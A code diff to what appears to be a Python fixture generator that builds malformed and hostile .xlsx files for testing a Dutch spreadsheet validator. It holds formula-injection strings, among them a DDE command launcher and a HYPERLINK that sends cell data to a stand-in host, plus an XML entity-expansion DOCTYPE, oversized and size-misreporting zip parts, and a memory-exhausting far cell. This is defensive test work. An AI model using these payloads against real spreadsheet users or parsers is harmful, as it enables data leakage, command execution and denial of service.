@@ -9,6 +9,7 @@ with their samples in samples/fouten/.
 """
 
 import datetime as dt
+import random
 import sys
 import zipfile
 from collections.abc import Callable
@@ -19,8 +20,10 @@ from pa_sheets.demo.faults import FAULT_ROW, Book
 
 OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
 NOT_XLSX = "dit is geen Excel-werkmap (.xlsx); misschien een ander bestand met een andere extensie."
+PDF = "dit is een PDF-bestand, geen werkboek. Sla het op als Excel-werkmap (.xlsx)"
 OLD_OR_LOCKED = "dit is een oud Excel-bestand (.xls) of een werkboek met een wachtwoord."
 DOCTYPE = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
+FORMULA_AFSPRAAK = '=HYPERLINK("http://kwaad.example/","klik")'
 HOSTILE_TEXTS = [
     '=HYPERLINK("http://kwaad.example/?"&A1,"Klik hier")',
     "=cmd|' /C calc'!A0",
@@ -165,6 +168,153 @@ def _formula_injection(book: Book) -> None:
     book.put("BT Linde", "nieuw", "bijdrage", "=cmd|' /C calc'!A0", FAULT_ROW)
 
 
+# -- hostile containers (issue 16) --------------------------------------------------------------
+
+
+def patch_member(target: Path, part: str, flags: int = 0, sizes: int | None = None) -> None:
+    """Change a member's general purpose flags (or) and, if given, its declared unpacked size,
+    in its local header and in the central directory, as a tampered zip has them."""
+    data = bytearray(target.read_bytes())
+    with zipfile.ZipFile(target) as archive:
+        info = archive.getinfo(part)
+        start = archive.start_dir
+    data[info.header_offset + 6] |= flags  # local header: flags at 6, unpacked size at 22
+    if sizes is not None:
+        data[info.header_offset + 22 : info.header_offset + 26] = sizes.to_bytes(4, "little")
+    at = start
+    while data[at : at + 4] == b"PK\x01\x02":  # central directory: flags at 8, size at 24
+        length = int.from_bytes(data[at + 28 : at + 30], "little")
+        extra = int.from_bytes(data[at + 30 : at + 32], "little")
+        comment = int.from_bytes(data[at + 32 : at + 34], "little")
+        if data[at + 46 : at + 46 + length].decode() == part:
+            data[at + 8] |= flags
+            if sizes is not None:
+                data[at + 24 : at + 28] = sizes.to_bytes(4, "little")
+        at += 46 + length + extra + comment
+    target.write_bytes(bytes(data))
+
+
+def _encrypted_member(source: Path, target: Path) -> None:
+    """The "encrypted" flag bit on one part (zipfile raises RuntimeError on reading it)."""
+    rezip(source, target, lambda name, content: content)
+    patch_member(target, "xl/workbook.xml", flags=0x1)
+
+
+def _lzma_damaged(source: Path, target: Path) -> None:
+    """A part packed with LZMA (which Excel never uses) with damaged properties."""
+    rezip(source, target, lambda name, content: content)
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
+        for item in old.infolist():
+            method = zipfile.ZIP_LZMA if item.filename == "xl/styles.xml" else zipfile.ZIP_DEFLATED
+            new.writestr(item.filename, old.read(item), method)
+    data = bytearray(target.read_bytes())
+    with zipfile.ZipFile(target) as archive:
+        info = archive.getinfo("xl/styles.xml")
+    start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
+    data[start + 4 : start + 9] = b"\xff" * 5  # the LZMA properties after its 4-byte header
+    target.write_bytes(bytes(data))
+
+
+def _with_part(part: str, content: bytes) -> Callable[[Path, Path], None]:
+    def make(source: Path, target: Path) -> None:
+        rezip(source, target, lambda name, old: old, [(part, content)])
+
+    return make
+
+
+def _ods_with_workbook_xml(source: Path, target: Path) -> None:
+    """An OpenDocument spreadsheet with an xl/workbook.xml added."""
+    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w") as new:
+        new.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
+        new.writestr("content.xml", "<office:document-content/>")
+        new.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
+        new.writestr("xl/workbook.xml", old.read("xl/workbook.xml"), zipfile.ZIP_DEFLATED)
+
+
+def _word_document(source: Path, target: Path) -> None:
+    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
+        new.writestr("[Content_Types].xml", "<Types/>")
+        new.writestr("word/document.xml", "<w:document/>")
+
+
+def _big_shared_strings(source: Path, target: Path) -> None:
+    """40 MB of short shared strings: packs at about 150x, inside the ratio limit (the issue's
+    file had 1 GB at 166x); also the same part declaring a small size."""
+    unit = b"".join(b"<si><t>%d</t></si>" % (i % 9973) for i in range(10_000))
+    count = 40 * 1024 * 1024 // len(unit) + 1
+    strings = b'<sst xmlns="x">' + unit * count + b"</sst>"
+    rezip(source, target, lambda name, old: old, [("xl/sharedStrings.xml", strings)])
+
+
+def _lying_shared_strings(source: Path, target: Path) -> None:
+    """The same 40 MB part, declaring 1,000 bytes in the zip directory."""
+    _big_shared_strings(source, target)
+    patch_member(target, "xl/sharedStrings.xml", sizes=1000)
+
+
+def _big_sheet(source: Path, target: Path) -> None:
+    """A worksheet made 40 MB by a comment in it that packs like text (about 2x)."""
+    filler = random.Random(16).randbytes(20 * 1024 * 1024).hex().encode()
+
+    def change(name: str, content: bytes) -> bytes:
+        if name != "xl/worksheets/sheet2.xml":
+            return content
+        end = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
+        return content[:end] + b"<!--" + filler + b"-->" + content[end:]
+
+    rezip(source, target, change)
+
+
+def _far_cell(source: Path, target: Path) -> None:
+    """One cell in the last row and column: a reader that keeps the sheet's area in memory
+    asks for 549 GB (calamine aborts the whole process)."""
+    far = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row></sheetData>'
+
+    def change(name: str, content: bytes) -> bytes:
+        return (
+            content.replace(b"</sheetData>", far) if name == "xl/worksheets/sheet2.xml" else content
+        )
+
+    rezip(source, target, change)
+
+
+def _sheet_elsewhere(source: Path, target: Path) -> None:
+    """A worksheet outside xl/worksheets/, where the limits on sheets would not look."""
+
+    def change(name: str, content: bytes) -> bytes | None:
+        if name == "xl/worksheets/sheet2.xml":
+            return None
+        if name == "xl/_rels/workbook.xml.rels":
+            return content.replace(b"worksheets/sheet2.xml", b"media/sheet2.xml")
+        return content
+
+    with zipfile.ZipFile(source) as old:
+        sheet = old.read("xl/worksheets/sheet2.xml")
+    rezip(source, target, change, [("xl/media/sheet2.xml", sheet)])
+
+
+def doctype_after(part: str, offset: int) -> Callable[[Path, Path], None]:
+    """A DOCTYPE behind a comment, starting `offset` bytes into the part."""
+
+    def make(source: Path, target: Path) -> None:
+        def change(name: str, content: bytes) -> bytes:
+            if name != part:
+                return content
+            end = content.index(b"?>") + 2 if content.startswith(b"<?xml") else 0
+            filler = b"<!--" + b"x" * (offset - end - 7) + b"-->"
+            return content[:end] + filler + DOCTYPE + content[end:]
+
+        rezip(source, target, change)
+
+    return make
+
+
+def _formula_in_afspraak(book: Book) -> None:
+    """A live formula typed as the afspraak of a new row: reported, and kept in the overview."""
+    book.new_row("BS Linde", afspraak="x")
+    book.put("BS Linde", "nieuw", "afspraak", FORMULA_AFSPRAAK, FAULT_ROW)
+
+
 # -- tampered templates ----------------------------------------------------------------------
 
 
@@ -210,7 +360,7 @@ def _only_spaces(book: Book) -> None:
 CASES = [
     Case("leeg.xlsx", "0 bytes", lambda s, t: t.write_bytes(b""), 2, "het bestand is leeg"),
     Case("csv.xlsx", "CSV met .xlsx", lambda s, t: t.write_text("nummer;afspraak\n"), 2, NOT_XLSX),
-    Case("pdf.xlsx", "PDF met .xlsx", lambda s, t: t.write_bytes(b"%PDF-1.7\n%..."), 2, NOT_XLSX),
+    Case("pdf.xlsx", "PDF met .xlsx", lambda s, t: t.write_bytes(b"%PDF-1.7\n%..."), 2, PDF),
     Case(
         "afgebroken.xlsx",
         "half verstuurd",
@@ -249,11 +399,116 @@ CASES = [
     ),
     Case("macro.xlsm", "met vbaProject", _macro, 2, "het werkboek bevat macro's"),
     Case(
+        "onderdeel-versleuteld.xlsx",
+        "vlag 'versleuteld' op een onderdeel",
+        _encrypted_member,
+        2,
+        "onderdeel xl/workbook.xml is versleuteld.",
+    ),
+    Case(
+        "lzma-beschadigd.xlsx",
+        "onderdeel met LZMA, eigenschappen beschadigd",
+        _lzma_damaged,
+        2,
+        "onderdeel xl/styles.xml is ingepakt op een manier die Excel niet gebruikt",
+    ),
+    Case(
+        "xlsb-met-workbook-xml.xlsb",
+        ".xlsb met een xl/workbook.xml erbij",
+        _with_part("xl/workbook.bin", b"\x83\x01\x00" * 100),
+        2,
+        "dit is een binaire Excel-werkmap (.xlsb), geen Excel-werkmap. Sla het op als",
+    ),
+    Case(
+        "ods-met-workbook-xml.ods",
+        ".ods met een xl/workbook.xml erbij",
+        _ods_with_workbook_xml,
+        2,
+        "dit is een OpenDocument-bestand (.ods, LibreOffice of OpenOffice), geen Excel-werkmap",
+    ),
+    Case(
+        "word.docx",
+        "een Word-document",
+        _word_document,
+        2,
+        "dit is een Word-document (.docx), geen Excel-werkmap. Sla het op als Excel-werkmap",
+    ),
+    Case(
+        "pdf.pdf",
+        "een PDF",
+        lambda s, t: t.write_bytes(b"%PDF-1.7\n%..."),
+        2,
+        PDF,
+    ),
+    Case(
+        "werkmap-als.ods",
+        "een gewone .xlsx met de naam .ods",
+        lambda s, t: t.write_bytes(s.read_bytes()),
+        0,
+        (),
+    ),
+    Case(
+        "gedeelde-teksten-40-mb.xlsx",
+        "40 MB korte teksten, binnen de verhouding ingepakt",
+        _big_shared_strings,
+        2,
+        "onderdeel xl/sharedStrings.xml (de gedeelde teksten) pakt uit tot meer dan 32 MB",
+    ),
+    Case(
+        "gedeelde-teksten-liegen.xlsx",
+        "40 MB gedeelde teksten die zeggen 1.000 bytes te zijn",
+        _lying_shared_strings,
+        2,
+        "het bestand is beschadigd of onvolledig",
+    ),
+    Case(
+        "werkblad-40-mb.xlsx",
+        "een werkblad van 40 MB",
+        _big_sheet,
+        2,
+        "onderdeel xl/worksheets/sheet2.xml (een werkblad) pakt uit tot meer dan 32 MB",
+    ),
+    Case(
+        "verre-cel.xlsx",
+        "één cel in XFD1048576",
+        _far_cell,
+        2,
+        "werkblad xl/worksheets/sheet2.xml reikt tot rij 1.048.576 en kolom 16.384",
+    ),
+    Case(
+        "werkblad-elders.xlsx",
+        "een werkblad buiten xl/worksheets/",
+        _sheet_elsewhere,
+        2,
+        "een werkblad staat op een onverwachte plaats (xl/media/sheet2.xml)",
+    ),
+    Case(
+        "doctype-na-3000-bytes.xlsx",
+        "DOCTYPE achter een commentaar van 3.000 bytes",
+        doctype_after("xl/workbook.xml", 3000),
+        2,
+        "onderdeel xl/workbook.xml bevat een DOCTYPE-declaratie",
+    ),
+    Case(
+        "doctype-op-de-grens.xlsx",
+        "DOCTYPE over de grens van twee stukken van 1 MB",
+        doctype_after("xl/worksheets/sheet3.xml", 2**20 - 4),
+        2,
+        "onderdeel xl/worksheets/sheet3.xml bevat een DOCTYPE-declaratie",
+    ),
+    Case(
         "externe-koppeling.xlsx", "koppeling naar een ander bestand", _external_link, 1, ("S030",)
     ),
     Case("tekst-van-1-mb.xlsx", "een afspraak van 1 MB", edited(_megabyte_text), 1, ("V005",)),
     Case(
         "formule-injectie.xlsx", "=cmd|, +, -, @ en DDE", edited(_formula_injection), 1, ("V010",)
+    ),
+    Case(
+        "formule-als-afspraak.xlsx",
+        "=HYPERLINK(...) als afspraak",
+        edited(_formula_in_afspraak),
+        1,
+        ("V001", "V010"),
     ),
     Case(
         "bladen-verwisseld.xlsx", "tabbladen in andere volgorde", edited(_sheets_reordered), 0, ()
